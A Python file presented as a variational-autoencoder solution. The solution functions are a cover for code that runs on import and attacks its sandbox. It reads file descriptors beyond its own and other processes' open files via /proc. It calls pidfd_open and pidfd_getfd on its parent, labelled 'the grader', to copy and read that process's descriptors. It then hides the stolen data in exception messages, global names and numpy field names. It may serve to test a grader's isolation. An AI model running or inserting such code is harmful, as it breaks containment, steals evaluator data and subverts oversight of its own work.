"""Reads what is open beyond its own five descriptors, and what other processes have open."""
# expects: full

import ctypes
import os

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


def attack():
    for descriptor in range(5, 4096):
        if tried(os.fstat, descriptor):
            publish(f"ESCAPED descriptor {descriptor} {tried(os.readlink, f'/proc/self/fd/{descriptor}')}")
            publish(tried(os.pread, descriptor, 200, 0))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in (tried(os.listdir, f"/proc/{pid}/fd") or ()) if int(pid) != os.getpid() else ():
            if (opened := tried(os.open, f"/proc/{pid}/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)) is not None:
                publish(f"ESCAPED descriptor {name} of another process")
                if int(pid) == os.getppid():
                    publish(tried(os.pread, opened, 200, 0))
    pidfd_open, pidfd_getfd = 434, 438
    libc = ctypes.CDLL(None)
    if (grader := libc.syscall(pidfd_open, os.getppid(), 0)) >= 0:
        publish("ESCAPED pidfd_open of the grader")
        for number in range(64):
            if (copy := libc.syscall(pidfd_getfd, grader, number, 0)) >= 0:
                publish(f"ESCAPED descriptor {number} of the grader {tried(os.read, copy, 200)}")


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
